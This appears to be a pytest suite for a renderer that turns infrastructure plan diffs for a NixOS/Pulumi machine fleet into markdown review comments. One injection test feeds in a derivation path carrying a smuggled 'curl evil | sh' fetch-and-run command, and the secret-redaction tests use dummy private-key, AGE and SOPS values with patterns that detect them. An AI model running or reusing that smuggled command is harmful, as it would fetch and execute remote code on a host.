"""`fleet plan --markdown` (review.markdown, preview.md §6.3): layout, secrets, escaping, the budget
and its trimming order, 1000 changed machines in one comment, and a golden comment of two real plans
of the prod stack (regenerate with FLEET_UPDATE_GOLDEN=1)."""

from __future__ import annotations

import importlib.util
import json
import os
import re
from pathlib import Path
from typing import Any

import pytest

from fleet_sdk.review.markdown import render_markdown
from fleet_sdk.review.markdown_text import ABSENT as NONE
from fleet_sdk.review.markdown_text import PULUMI_SECRET_SIG

from .conftest import PROJECT

GOLDEN = Path(__file__).resolve().parent / "fixtures" / "plan"
UPDATE_GOLDEN = os.environ.get("FLEET_UPDATE_GOLDEN") == "1"
SERVER = "hcloud:index/server:Server"
HEX = "0123456789abcdef" * 4  # a sha256 in hex
STORE = "/nix/store/{}-nixos-system-{}"


def change(
    name: str, op: str, paths: tuple[dict[str, Any], ...] | list[dict[str, Any]] = (), **fields: Any
) -> dict[str, Any]:
    """One entry of a machine's `changes` (preview.md §6.2)."""
    type_ = fields.pop("type", SERVER)
    return {
        "urn": f"urn:pulumi:prod::fleet::fleet:index:Fleet$fleet:index:Machine${type_}::{name}",
        "type": type_,
        "name": name,
        "op": op,
        "protect": fields.pop("protect", False),
        "paths": [dict(p) for p in paths],
        "replace_reasons": fields.pop("replace_reasons", []),
        "unknown": fields.pop("unknown", []),
        "note": fields.pop("note", None),
    }


def path(name: str, old: Any, new: Any, kind: str = "update") -> dict[str, Any]:
    return {"path": name, "kind": kind, "old": old, "new": new}


def system(name: str, old: str | None, new: str | None) -> dict[str, Any]:
    """`system` of a machine whose toplevel went from hash `old` to `new` (32 characters each)."""
    out = {k: STORE.format(h, name) if h else None for k, h in (("old", old), ("new", new))}
    drv = {k: v + ".drv" if v else None for k, v in out.items()}
    return {"changed": None if old is None else old != new, "drvPath": drv, "outPath": out}


def machine(status: str = "changed", *, danger: tuple[str, ...] = (), changes: tuple[dict[str, Any], ...] = (),
            regenerate: tuple[str, ...] = (), disk: bool = False, closure: dict[str, Any] | None = None,
            joins: tuple[str, ...] = (), leaves: tuple[str, ...] = ()) -> dict[str, Any]:  # fmt: skip
    digest = {"old": "sha256:" + HEX, "new": "sha256:" + HEX[::-1]} if disk else {"old": None, "new": None}
    return {
        "status": status,
        "danger": list(danger),
        "changes": list(changes),
        "secrets": {"regenerate": list(regenerate)},
        "disk": {"changed": disk, "digest": digest},
        "system": closure
        or {"changed": None, "drvPath": {"old": None, "new": None}, "outPath": {"old": None, "new": None}},
        "zerotier": {"joins": list(joins), "leaves": list(leaves)},
    }


def make_diff(machines: dict[str, dict[str, Any]], **fields: Any) -> dict[str, Any]:
    ops = [c["op"] for m in machines.values() for c in m["changes"]]
    return {
        "schema": "fleet-plan-diff/1",
        "project": "fleet",
        "stack": "prod",
        "base": {"ref": "git:" + HEX[:40], "digest": "sha256:" + HEX},
        "head": {"ref": None, "digest": "sha256:" + HEX[::-1]},
        "summary": {op: ops.count(op) for op in ("create", "update", "replace", "delete")} | {"same": 23},
        "machines": machines,
        "shared": fields.pop("shared", []),
        "outputs": fields.pop("outputs", {"added": [], "removed": [], "changed": []}),
    } | fields


def review_diff() -> dict[str, Any]:
    """A protected server that would be replaced, a wiped one, an added one, one reboot, two unchanged."""
    return make_diff(
        {
            "cinnabar": machine(
                danger=("blocked", "reboot", "secrets", "system"),
                changes=(
                    change(
                        "cinnabar",
                        "replace",
                        [path("location", "fsn1", "nbg1", "update-replace"), path("serverType", "cx43", "cx53")],
                        protect=True,
                        replace_reasons=["location"],
                    ),
                ),
                regenerate=("openssh", "zerotier-identity-cinnabar"),
                closure=system("cinnabar", "a" * 32, "b" * 32),
            ),
            "scheelite": machine(
                danger=("wipe",),
                changes=(
                    change(
                        "scheelite",
                        "replace",
                        [path("zone", "us-central1-f", "us-central1-b", "update-replace")],
                        type="gcp:compute/instance:Instance",
                        replace_reasons=["zone"],
                    ),
                ),
                disk=True,
            ),
            "galena": machine("added", danger=("network",), changes=(change("galena", "create"),), joins=("zt",)),
            "magnetite": machine(
                danger=("reboot",), changes=(change("magnetite", "update", [path("serverType", "cx53", "cx63")]),)
            ),
            "pyrite": machine("unchanged"),
            "rosegold": machine("unchanged"),
        }
    )


def cells(row: str) -> list[str]:
    """The cells of a GFM table row: split at `|` not escaped by a backslash (code spans included)."""
    return re.split(r"(?<!\\)\|", row.strip())[1:-1]


def table_rows(out: str) -> list[str]:
    lines = out.splitlines()
    start = lines.index("|machine|cloud|disk|secrets|system|zerotier|")
    rows = []
    for line in lines[start + 2 :]:
        if not line.startswith("|"):
            break
        rows.append(line)
    return rows


def test_the_comment_opens_with_the_marker_heading_banner_table_and_summary() -> None:
    out = render_markdown(review_diff(), mermaid='flowchart LR\n  n0["Server cinnabar"]')
    lines = out.splitlines()
    assert lines[0] == "<!-- fleet-plan project=fleet stack=prod -->"
    assert lines[1] == "## fleet plan: `fleet/prod` · base `git:0123456789ab` → head `sha256:fedcba987654`"
    blocked = "> ⛔ blocked: `cinnabar` (protected Server, `location`)"
    wipe = "> ⚠️ wipe: `scheelite` (Instance replaced: `zone`; disk layout changed)"
    counts = "> reboot: 2 machines · regenerate secrets: 1 machine · network: 1 machine · new system: 1 machine"
    assert lines[3:8] == [blocked, ">", wipe, ">", counts]
    assert table_rows(out) == [
        f"|⛔ cinnabar|`+-` location, serverType (reboot)|{NONE}|2 regenerated|changed|{NONE}|",
        f"|galena (added)|`+` Server|{NONE}|{NONE}|unknown|joins `zt`|",
        f"|magnetite|`~` serverType (reboot)|{NONE}|{NONE}|unknown|{NONE}|",
        f"|⚠️ scheelite|`+-` zone|wipe|{NONE}|unknown|{NONE}|",
    ]
    assert "2 machines unchanged: `pyrite`, `rosegold`." in lines
    assert "`+1 create · ~1 update · +-2 replace · -0 delete · 23 same` (offline estimate; no Pulumi preview)" in lines
    order = [out.index(s) for s in (blocked, "|machine|", "`+1 create", "<details><summary>cinnabar", "<summary>graph")]
    assert order == sorted(order)
    assert '```mermaid\nflowchart LR\n  n0["Server cinnabar"]\n```' in out
    assert "_Cut to fit" not in out


def test_machine_details_show_changes_secrets_system_and_disk() -> None:
    out = render_markdown(review_diff())
    cinnabar = out[out.index("<details><summary>cinnabar") : out.index("</details>")]
    assert "<summary>cinnabar: 1 change · blocked, reboot, secrets, system</summary>" in cinnabar
    assert "|`+-`|Server `cinnabar` (protected)|location (forces replace)|`fsn1` → `nbg1`|" in cinnabar
    assert "|`+-`|Server `cinnabar` (protected)|serverType|`cx43` → `cx53`|" in cinnabar
    assert "secrets regenerated: `openssh`, `zerotier-identity-cinnabar`" in cinnabar
    short = "`/nix/store/{}…-nixos-system-cinnabar`"
    assert f"system: {short.format('a' * 12)} → {short.format('b' * 12)}" in cinnabar
    old, new = (STORE.format(h * 32, "cinnabar") + ".drv" for h in "ab")
    assert f"```sh\nnix-diff {old} {new}\n```" in cinnabar  # whole paths: the command must run
    assert "disk layout changed: `sha256:0123456789ab…` → `sha256:fedcba987654…`" in out


def test_no_danger_gives_a_calm_line_and_no_changes_no_table() -> None:
    calm = make_diff({"magnetite": machine(changes=(change("magnetite", "update", [path("labels.a", "1", "2")]),))})
    out = render_markdown(calm)
    assert "> ✅ no machine is wiped, nothing protected is blocked" in out.splitlines()
    assert "⚠️" not in out and "⛔" not in out
    assert table_rows(out) == [f"|magnetite|`~` labels.a|{NONE}|{NONE}|unknown|{NONE}|"]
    empty = render_markdown(make_diff({"pyrite": machine("unchanged")}))
    assert "No machine changes." in empty and "|machine|" not in empty
    assert "1 machine unchanged: `pyrite`." in empty


def test_removed_machines_moved_resources_and_blocked_shared_steps() -> None:
    gone = machine("removed", danger=("wipe",), changes=(change("old", "delete"),), leaves=("zt",))
    moved = change(
        "web-a", "delete", type="cloudflare:index/dnsRecord:DnsRecord", note="moved? now urn:x: add an alias"
    )
    firewall = change("fleet", "delete", type="hcloud:index/firewall:Firewall", protect=True)
    out = render_markdown(make_diff({"old": gone, "web": machine(changes=(moved,))}, shared=[firewall]))
    assert f"|⚠️ old (removed)|`-` Server|{NONE}|{NONE}|unknown|leaves `zt`|" in table_rows(out)
    assert f"|web|`-` DnsRecord|{NONE}|{NONE}|unknown|{NONE}|" in table_rows(out)
    assert "> ⛔ blocked: `shared fleet` (protected Firewall, deleted)" in out
    assert "> ⚠️ wipe: `old` (Server deleted)" in out
    assert "- `web-a`: moved? now urn:x: add an alias" in out
    assert f"|`-`|Firewall `fleet` (protected)|{NONE}|{NONE}|" in out
    # the blocked shared step stays when the budget cuts calm details
    diff = make_diff({"old": gone, "web": machine(changes=(moved,))}, shared=[firewall])
    while "<summary>web:" in out:
        out = render_markdown(diff, budget=len(out) - 1)
    assert "<summary>shared: 1 change</summary>" in out and "<summary>old:" in out


def test_unchanged_machines_are_only_counted() -> None:
    machines = {f"idle{i}": machine("unchanged") for i in range(5)} | {
        "busy": machine(changes=(change("busy", "update", [path("serverType", "cx23", "cx33")]),))
    }
    out = render_markdown(make_diff(machines))
    assert [cells(r)[0] for r in table_rows(out)] == ["busy"]
    assert "5 machines unchanged: `idle0`, `idle1`, `idle2`, `idle3`, `idle4`." in out
    assert "<summary>idle" not in out


def test_a_preview_marker_names_pulumi_as_the_source() -> None:
    preview = {
        "source": "event-log",
        "summary": {"update": 2},
        "disagreements": [{"urn": "u1", "machine": "cinnabar", "offline": "replace", "pulumi": "update"}],
        "unmatched": [],
        "unreported": [{"urn": "u2", "machine": "galena", "offline": "create"}],
        "diagnostics": [{"severity": "error", "urn": None, "message": "boom"}],
    }
    out = render_markdown(review_diff() | {"preview": preview})
    assert "(Pulumi preview; Pulumi and the offline plan disagree on 1 op; Pulumi does not report 1 change; " in out
    assert "Pulumi reports 1 error)" in out and "offline estimate" not in out
    calm = {k: [] for k in ("disagreements", "unmatched", "unreported", "diagnostics")}
    assert "` (Pulumi preview)\n" in render_markdown(review_diff() | {"preview": calm | {"source": "digest"}})


def test_pulumi_ops_and_paths_from_a_preview_are_flagged() -> None:
    taken = change("cinnabar", "update", [path("serverType", "cx43", "cx53")]) | {
        "offline_op": "replace",
        "pulumi_op": "update",
        "pulumi_paths": [{"path": "serverType", "kind": "update"}, {"path": "labels", "kind": "add"}],
    }
    out = render_markdown(make_diff({"cinnabar": machine(changes=(taken,))}))
    assert "|`~`|Server `cinnabar` (Pulumi: update, offline: replace)|serverType|`cx43` → `cx53`|" in out
    assert "|`~`|Server `cinnabar` (Pulumi: update, offline: replace)|labels|(Pulumi: add)|" in out


SECRETS = {
    "age": "AGE-SECRET-KEY-1QYQSZQGPQYQSZQGPQYQSZQGPQYQSZQGPQYQSZQGPQYQSZQGPQYQS7W3YZ",
    "pem": "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmU=\n-----END OPENSSH PRIVATE KEY-----\n",
    "sops": "ENC[AES256_GCM,data:c2VjcmV0LXNvcHMtdmFsdWU=,iv:aXY=,tag:dGFn,type:str]",
}
# the parts of each that must never be printed
SECRET_PARTS = ("QYQSZQGPQYQSZ", "b3BlbnNzaC1rZXktdjEAAAAABG5vbmU", "c2VjcmV0LXNvcHMtdmFsdWU", "pulumi-ciphertext")


def secret_diff() -> dict[str, Any]:
    pulumi_secret = {PULUMI_SECRET_SIG[0]: PULUMI_SECRET_SIG[1], "ciphertext": "pulumi-ciphertext"}
    paths = [
        path("userData", "#cloud-config\nkey: " + SECRETS["pem"], "#cloud-config\nkey: " + SECRETS["age"]),
        path("environment.TOKEN", SECRETS["sops"], pulumi_secret),
        path("labels.note", "[secret]", {"nested": [SECRETS["age"]]}),
        path("cut", SECRETS["pem"][:50], "ENC[AES256_GCM,data:c2VjcmV0LXNvcHMtdmFsdWU="),
    ]
    secret_machine = machine(
        danger=("wipe", "secrets"),
        changes=(change("vault", "replace", paths, replace_reasons=["userData"]),),
        regenerate=(SECRETS["age"],),
    )
    outputs = {
        "added": {"key": SECRETS["age"]},
        "removed": [],
        "changed": {"pem": {"old": SECRETS["pem"], "new": None}},
    }
    return make_diff({"vault": secret_machine}, outputs=outputs)


@pytest.mark.parametrize("budget", [60_000, 3_000, 1_500, 500])
def test_nothing_secret_shaped_is_ever_printed(budget: int) -> None:
    out = render_markdown(secret_diff(), mermaid=f'flowchart LR\n  n0["{SECRETS["age"]}"]', budget=budget)
    leaked = [p for p in SECRET_PARTS if p in out]
    assert not leaked, f"printed: {leaked}"
    assert not re.search(r"AGE-SECRET-KEY-.|PRIVATE KEY|ENC\[.", out)
    if budget == 60_000:  # values shown: each secret hidden, the rest of the value kept
        assert "`#cloud-config\\nkey: [secret]\\n` → `#cloud-config\\nkey: [secret]`" in out
        assert '`[secret]` → `{"nested":["[secret]"]}`' in out
        assert "secrets regenerated: `[secret]`" in out and f"- changed: `pem` `[secret]\\n` → {NONE}" in out


def test_pipes_and_backticks_in_values_are_escaped() -> None:
    nasty = change("web", "update", [path("labels.a|b", "x|y", "a`b``c"), path("tags[`0`]", "<details>", "*bold*")])
    out = render_markdown(make_diff({"web": machine(changes=(nasty,))}))
    rows = [line for line in out.splitlines() if line.startswith("|`~`|")]
    assert len(rows) == 2 and all(len(cells(r)) == 4 for r in rows)
    first, second = rows
    assert cells(first)[2] == r"labels.a\|b" and cells(first)[3] == r"`x\|y` → ``` a`b``c ```"
    assert cells(second)[2] == r"tags\[\`0\`\]" and cells(second)[3] == "`<details>` → `*bold*`"
    assert len(cells(table_rows(out)[0])) == 6


def test_hashes_are_cut_to_twelve_characters() -> None:
    digest = change(
        "web", "update", [path("triggers[0]", HEX, HEX[::-1]), path("image", STORE.format("c" * 32, "x"), "y")]
    )
    out = render_markdown(make_diff({"web": machine(changes=(digest,))}))
    assert "`0123456789ab…` → `fedcba987654…`" in out and HEX not in out and HEX[::-1] not in out
    assert "`/nix/store/cccccccccccc…-nixos-system-x`" in out and "c" * 13 not in out


def test_the_nix_diff_command_takes_only_store_derivations() -> None:
    closure = system("web", "a" * 32, "b" * 32)
    closure["drvPath"]["new"] = "/nix/store/x.drv; curl evil | sh"
    out = render_markdown(make_diff({"web": machine(danger=("system",), closure=closure)}))
    assert "nix-diff" not in out and "curl evil | sh" not in out


def trim_diff() -> dict[str, Any]:
    """Every part the budget can cut: unchanged machines, values, a calm machine's details, a danger
    machine's details, a graph and 30 machines wiped for one reason."""
    machines = {f"idle{i:02d}": machine("unchanged") for i in range(30)}
    for i in range(30):
        replaced = change(f"w{i:02d}", "replace", [path("image", "debian-12", "debian-13-x" * 3, "update-replace")])
        machines[f"w{i:02d}"] = machine(danger=("wipe",), changes=(replaced | {"replace_reasons": ["image"]},))
    calm = [path(f"labels.k{i}", "v" * 20, "w" * 20) for i in range(10)]
    machines["calm"] = machine(changes=(change("calm", "update", calm),))
    return make_diff(machines)


TRIM_PARTS = {
    "unchanged list": lambda out: "`idle00`" in out,
    "values": lambda out: "`debian-12` →" in out,
    "calm details": lambda out: "<summary>calm:" in out,
    "graph": lambda out: "<summary>graph</summary>" in out,
    "danger details": lambda out: "<summary>w00:" in out,
    "banner names": lambda out: "`w29`" in out.split("\n\n")[1],
}


def test_trimming_drops_parts_in_order_and_keeps_the_frame() -> None:
    mermaid = "flowchart LR\n" + "".join(f'  n{i}["resource {i}"]\n' for i in range(40))
    diff = trim_diff()
    budget = 10**6
    out = render_markdown(diff, mermaid=mermaid, budget=budget)
    dropped: list[list[str]] = []
    while True:
        present = [part for part, shown in TRIM_PARTS.items() if shown(out)]
        dropped.append([part for part in TRIM_PARTS if part not in present])
        for frame in (
            "<!-- fleet-plan project=fleet stack=prod -->",
            "## fleet plan:",
            "> ⚠️ wipe: `w00`",
            "`+0 create",
        ):
            assert frame in out
        assert len(table_rows(out)) == 31 and "30 machines unchanged" in out
        if not present:
            break
        budget = len(out) - 1
        out = render_markdown(diff, mermaid=mermaid, budget=budget)
        assert len(out) <= budget
    names = list(TRIM_PARTS)
    assert dropped == [names[:i] for i in range(len(names) + 1)]
    assert "and 10 more (" in out and "banner names past the first 20 per reason" in out


def test_a_frame_longer_than_the_budget_is_returned_whole() -> None:
    out = render_markdown(trim_diff(), budget=100)
    assert len(out) > 100 and len(table_rows(out)) == 31 and out.startswith("<!-- fleet-plan")


def bench_diff(n: int) -> dict[str, Any]:
    """`n` machines, every one changed: a new server type (reboot), regenerated secrets, a new system."""
    machines = {}
    for i in range(n):
        name = f"m{i:04d}"
        resized = change(name, "update", [path("serverType", "cx23", "cx33")])
        vars_step = change(
            f"{name}-vars",
            "replace",
            [path("triggers[0]", HEX, HEX[::-1], "update-replace")],
            type="command:local:Command",
        )
        machines[name] = machine(
            danger=("reboot", "secrets", "system"),
            changes=(resized, vars_step),
            regenerate=("openssh", f"zerotier-identity-{name}"),
            closure=system(name, "a" * 32, "b" * 32),
        )
    return make_diff(machines)


def test_a_thousand_changed_machines_fit_with_banner_and_table_whole() -> None:
    out = render_markdown(bench_diff(1000), mermaid="flowchart LR\n" + "  n0-->n1\n" * 5000)
    assert len(out) < 60_000, len(out)
    assert "> ✅ no machine is wiped, nothing protected is blocked" in out
    assert "> reboot: 1000 machines · regenerate secrets: 1000 machines · new system: 1000 machines" in out
    rows = table_rows(out)
    assert len(rows) == 1000
    assert rows[0] == f"|m0000|`~` serverType (reboot)|{NONE}|2 regenerated|changed|{NONE}|"
    assert all(len(cells(r)) == 6 for r in rows) and rows[-1].startswith("|m0999|")
    assert "`+0 create · ~1000 update · +-1000 replace · -0 delete · 23 same`" in out
    assert "_Cut to fit 60,000 characters:" in out


def bench_plan(settings: Any, server_type: str, n: int = 1000) -> dict[str, Any]:
    """The plan document of bench/plan.py's fleet: `n` Hetzner machines of `server_type`."""
    from fleet_sdk.graph import deploy_fleet
    from fleet_sdk.review.plan import plan_document
    from fleet_sdk.spec import Fleet, HetznerHost, Machine
    from fleet_sdk.testing import recorded_graph

    host = HetznerHost(server_type=server_type, location="fsn1")
    fleet = Fleet(name="bench", machines=tuple(Machine(name=f"m{i:04d}", tags=("nixos",), host=host) for i in range(n)))
    graph = recorded_graph(lambda: deploy_fleet(fleet, settings), preview=True, project="fleet", stack="bench")
    return plan_document(fleet, graph)


@pytest.mark.bench
def test_the_bench_fleet_with_every_machine_resized_fits(tmp_path: Path) -> None:
    """The acceptance case, from real plans: 1000 machines of bench/plan.py, every one changed (~15 s)."""
    from fleet_sdk.review.diff import diff_plans
    from fleet_sdk.stack.settings import StackSettings

    from .tools import load_bench

    settings = StackSettings(repo=load_bench("plan").make_repo(tmp_path))
    diff = diff_plans(bench_plan(settings, "cx23"), bench_plan(settings, "cx33"))
    out = render_markdown(diff)
    print(f"\n1000 changed machines: {len(out)} characters")
    assert len(out) < 60_000
    assert "> reboot: 1000 machines" in out and "> ✅ no machine is wiped" in out
    rows = table_rows(out)
    assert len(rows) == 1000 and all(
        r.endswith(f"|`~` serverType (reboot)|{NONE}|{NONE}|unknown|{NONE}|") for r in rows
    )


def prod_plans(monkeypatch: pytest.MonkeyPatch) -> tuple[dict[str, Any], dict[str, Any]]:
    """The prod stack as it is, and with other machines enabled, cinnabar resized and magnetite moved
    (the stack program's fleet changed after loading, as an edited stacks/prod.py would give it)."""
    from fleet_sdk.review import plan as planning

    base = planning.make_plan(PROJECT, "prod").document
    load = planning.load_stack

    def edited(*args: Any, **kwargs: Any) -> Any:
        config, settings, fleet = load(*args, **kwargs)
        changes = {"cinnabar": {"server_type": "cx53"}, "magnetite": {"location": "nbg1"}}
        machines = tuple(
            m.model_copy(update={"host": m.host.model_copy(update=changes[m.name])}) if m.name in changes else m
            for m in fleet.machines
        )
        return config, settings, fleet.model_copy(update={"machines": machines})

    monkeypatch.setattr(planning, "load_stack", edited)
    enabled = ["cinnabar", "magnetite", "galena", "scheelite", "blackphos", "stibnite", "argentum"]
    head = planning.make_plan(PROJECT, "prod", ["fleet:enabled=" + json.dumps(enabled)]).document
    return base, head


def test_golden_comment_of_two_real_prod_plans(monkeypatch: pytest.MonkeyPatch) -> None:
    if importlib.util.find_spec("fleet_sdk.review.diff") is None:
        pytest.skip("fleet_sdk.review.diff (diff_plans) is not written yet")
    from fleet_sdk.review.diff import diff_plans

    base, head = prod_plans(monkeypatch)
    diff = diff_plans(base, head, base={"ref": "base", "digest": None}, head={"ref": "head", "digest": None})
    got = {"prod-diff.json": json.dumps(diff, indent=2, sort_keys=True) + "\n", "prod-diff.md": render_markdown(diff)}
    if UPDATE_GOLDEN:
        GOLDEN.mkdir(parents=True, exist_ok=True)
        for name, content in got.items():
            (GOLDEN / name).write_text(content)
    assert not re.search(r"AGE-SECRET-KEY-.|PRIVATE KEY|ENC\[.", got["prod-diff.md"])
    assert "> ⛔ blocked: `magnetite` (protected Server, `location`)" in got["prod-diff.md"]
    assert "|cinnabar|`~` serverType (reboot)|" in got["prod-diff.md"]
    for name, content in got.items():
        assert (GOLDEN / name).read_text() == content, f"{name} differs: FLEET_UPDATE_GOLDEN=1 rewrites it"
